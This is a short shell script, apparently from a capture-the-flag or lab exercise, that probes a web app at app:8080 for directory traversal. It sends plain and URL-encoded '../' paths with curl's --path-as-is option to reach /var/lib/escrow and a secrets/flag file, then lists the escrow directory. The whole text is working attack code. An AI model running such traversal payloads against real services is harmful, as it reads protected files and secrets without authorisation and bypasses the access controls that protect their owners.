#-- ask for the file as if it were a report
for path in /reports/../../../../var/lib/escrow /reports/%2e%2e%2f%2e%2e%2fsecrets%2fflag /var/lib/escrow /srv/secrets/folder; do
    curl -s --path-as-is "http://app:8080$path"
done
ls -R /var/lib/escrow 2> /dev/null || echo none
